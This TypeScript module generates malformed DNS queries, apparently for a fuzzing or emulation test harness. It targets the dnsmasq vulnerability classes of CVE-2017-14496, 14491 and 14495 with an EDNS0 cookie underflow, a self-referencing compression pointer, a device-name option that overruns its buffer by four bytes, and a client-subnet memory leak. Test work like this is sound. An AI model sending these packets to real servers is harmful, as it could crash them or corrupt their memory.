import type { Random } from '../../emulator/base/index.js';
import { concat, DnsType, encodeHeader, encodeName, encodeOpt, u16, u32 } from '../codecs/dns.js';

const RECURSION_DESIRED = 0x0100;
const CLASS_IN = 1;
const POINTER = 0xc000;
const QUESTION_AT = 12;

const question = (name: Uint8Array, type: number): Uint8Array => concat(name, u16(type), u16(CLASS_IN));
const header = (random: Random, additional: number): Uint8Array => encodeHeader(random.next() & 0xffff, RECURSION_DESIRED, [1, 0, 0, additional]);

/** An EDNS0 option (RFC 6891 section 6.1.2): code, length, data; `declared` may lie. */
const option = (code: number, data: Uint8Array, declared = data.length): Uint8Array => concat(u16(code), u16(declared), data);

/**
 * CVE-2017-14496's class: an EDNS0 cookie (RFC 7873) shorter than the eight bytes every cookie has; what is left of it after those
 * is a negative number, which memcpy takes for a size of almost 4 GiB.
 */
export function ednsUnderflow(random: Random): Uint8Array {
  const cookie = new Uint8Array(random.below(8));
  random.fill(cookie);
  return concat(header(random, 1), question(encodeName('www.example.com'), DnsType.A), encodeOpt(1232, option(10, cookie)));
}

/** A name that is a compression pointer to itself (RFC 9267 section 2): whoever follows it follows it for ever. */
export function pointerLoop(random: Random): Uint8Array {
  return concat(header(random, 0), question(u16(POINTER | QUESTION_AT), DnsType.A));
}

const DEVICE_NAME_BYTES = 32;
const WILD_HOUR = 100_000_000;

/**
 * CVE-2017-14491's class, an overrun of a few bytes that nothing notices: a device name (option 65074, which forwarders add for their clients)
 * four bytes longer than its array. They are the index of the running hour, little-endian, which the next question is counted with.
 */
export function deviceName(random: Random): Uint8Array {
  const name = Uint8Array.from({ length: DEVICE_NAME_BYTES }, () => 0x61 + random.below(26));
  const hour = u32(WILD_HOUR).reverse();
  return concat(header(random, 1), question(encodeName('www.example.com'), DnsType.A), encodeOpt(1232, option(65074, concat(name, hour))));
}

/** CVE-2017-14495's class: a well-formed query whose client-subnet option (RFC 7871) is kept and never freed. */
export function ednsLeak(random: Random): Uint8Array {
  const data = Uint8Array.of(0, 1, 24, 0, 10, random.below(256), random.below(256));
  return concat(header(random, 1), question(encodeName('www.example.com'), DnsType.A), encodeOpt(1232, option(8, data)));
}

/** A well-formed query for a name below a domain whose server does not answer; the form "label" makes every one a name of its own. */
export function unanswered(random: Random): Uint8Array {
  return concat(header(random, 0), question(encodeName('void.example'), DnsType.A));
}
